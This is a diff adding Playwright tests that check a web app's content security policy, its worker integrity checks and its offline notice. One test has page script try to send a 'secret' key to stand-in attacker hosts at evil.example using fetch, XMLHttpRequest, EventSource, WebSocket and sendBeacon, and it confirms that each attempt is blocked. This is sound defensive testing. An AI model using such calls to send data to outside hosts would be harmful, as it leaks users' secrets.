@@ -4,9 +4,16 @@ import { join } from 'node:path'
 import type { Page } from '@playwright/test'
 import { freePort } from '../../scripts/support/ports.mjs'
 import { serveStatic } from '../../scripts/support/staticServer.mjs'
-import { buildSite } from '../support/site'
+import { buildSite, CHAIN_ID } from '../support/site'
 import { expect, test } from './support/test'
+import { watchViolations } from './support/violations'
 
+const LIST = {
+  name: 'Test list',
+  timestamp: '2026-01-01T00:00:00+00:00',
+  version: { major: 1, minor: 0, patch: 0 },
+  tokens: [{ chainId: CHAIN_ID, address: `0x${'12'.repeat(20)}`, decimals: 18, name: 'Listed', symbol: 'LST' }],
+}
 const title = (page: Page) => page.getByRole('heading', { level: 1 })
 
 test.describe('the content security policy', () => {
@@ -58,6 +65,74 @@ test.describe('the content security policy', () => {
     expect(await page.evaluate(() => document.documentElement.dataset['stolen'])).toBeUndefined()
   })
 
+  test('lets the page fetch from nobody whom the deployment does not name', async ({ page, siteUrl, expectedErrors }) => {
+    expectedErrors.push(/Content Security Policy|violates the document's/)
+    const violations = await watchViolations(page)
+    await page.goto('/earn')
+    await expect(title(page)).toHaveText('Earn')
+    await page.evaluate(() => {
+      const hosted = (name: string) => `https://${name}.evil.example/?key=secret`
+      for (const url of [hosted('fetch'), 'http://127.0.0.1:1/']) fetch(url, { mode: 'no-cors' }).catch(() => undefined)
+      const request = new XMLHttpRequest()
+      request.open('GET', hosted('xhr'))
+      request.send()
+      new EventSource(hosted('events')).onerror = () => undefined
+      new WebSocket('wss://socket.evil.example/').close()
+      navigator.sendBeacon(hosted('beacon'), 'secret')
+    })
+    const refused = async () => new Set((await violations()).map((each) => /^connect-src (.*evil\.example|.*:1)/.exec(each)?.[1]))
+    const tried = ['https://fetch.evil.example', 'http://127.0.0.1:1', 'https://xhr.evil.example', 'https://events.evil.example', 'wss://socket.evil.example', 'https://beacon.evil.example']
+    await expect.poll(refused).toEqual(new Set(tried))
+    // Its own host it may ask.
+    expect(await page.evaluate((url) => fetch(url).then(({ status }) => status), `${siteUrl}/build.json`)).toBe(200)
+  })
+
+  test("lets a worker ask the user's own node and lists, wherever they are", async ({ page, devnet }) => {
+    const violations = await watchViolations(page)
+    const asked: string[] = []
+    await page.route('https://node.example/**', async (route) => {
+      asked.push(route.request().postData() ?? '')
+      const answer = await route.fetch({ url: devnet.rpcUrl })
+      await route.fulfill({ response: answer, headers: { 'access-control-allow-origin': '*' } })
+    })
+    await page.route('https://lists.example/tokens.json', (route) => route.fulfill({ json: LIST, headers: { 'access-control-allow-origin': '*' } }))
+    await page.goto('/swap')
+    await page.getByTestId('node-status').click()
+    const nodes = page.getByRole('dialog', { name: 'Nodes' })
+    await nodes.getByLabel('Your own node').fill('https://node.example/key')
+    await nodes.getByRole('button', { name: 'Check and use' }).click()
+    await expect(nodes.getByText(/asked first from now on/)).toBeVisible()
+    await page.keyboard.press('Escape')
+
+    const before = asked.length
+    await page.reload()
+    await expect(page.getByTestId('node-status')).toContainText(/^Block /)
+    await expect.poll(() => asked.length).toBeGreaterThan(before)
+    expect(asked.at(-1)).toContain('"eth_chainId"')
+
+    await page.getByRole('button', { name: /^To/ }).click()
+    await page.getByRole('button', { name: 'Manage Tokens' }).click()
+    await page.getByLabel('Address of a list').fill('https://lists.example/tokens.json')
+    await expect(page.getByText('Version 1.0.0, 1 token')).toBeVisible()
+    expect(page.workers().map((worker) => new URL(worker.url()).pathname.replace(/-[\w-]+\.js$/, ''))).toEqual(['/assets/fetchWorker'])
+    expect(await violations()).toEqual([])
+  })
+
+  test('a worker that a host changed is not started', async ({ page, expectedErrors }) => {
+    expectedErrors.push(/integrity|Failed to load resource/)
+    await page.route(/\/assets\/fetchWorker-.*\.js$/, async (route) => {
+      const answer = await route.fetch()
+      await route.fulfill({ response: answer, body: `${await answer.text()};` })
+    })
+    await page.route('https://lists.example/tokens.json', (route) => route.fulfill({ json: LIST, headers: { 'access-control-allow-origin': '*' } }))
+    await page.goto('/swap')
+    await page.getByRole('button', { name: /^To/ }).click()
+    await page.getByRole('button', { name: 'Manage Tokens' }).click()
+    await page.getByLabel('Address of a list').fill('https://lists.example/tokens.json')
+    await expect(page.getByText(/^Error importing list: /)).toBeVisible()
+    expect(page.workers()).toEqual([])
+  })
+
   test('a chunk that a host changed is not run', async ({ page, expectedErrors }) => {
     expectedErrors.push(/.*/)
     await page.route(/\/assets\/start-.*\.js$/, async (route) => {
@@ -79,6 +154,9 @@ test('the shell opens offline and says so', async ({ browser, siteUrl }) => {
   await context.setOffline(true)
   await page.goto('/earn')
   await expect(title(page)).toHaveText('Earn')
+  // A new page has no network either, but Chromium tells it so only where that changes.
+  await context.setOffline(false)
+  await context.setOffline(true)
   await expect(page.getByText('You are offline')).toBeVisible()
   await context.setOffline(false)
   await expect(page.getByText('You are offline')).toBeHidden()
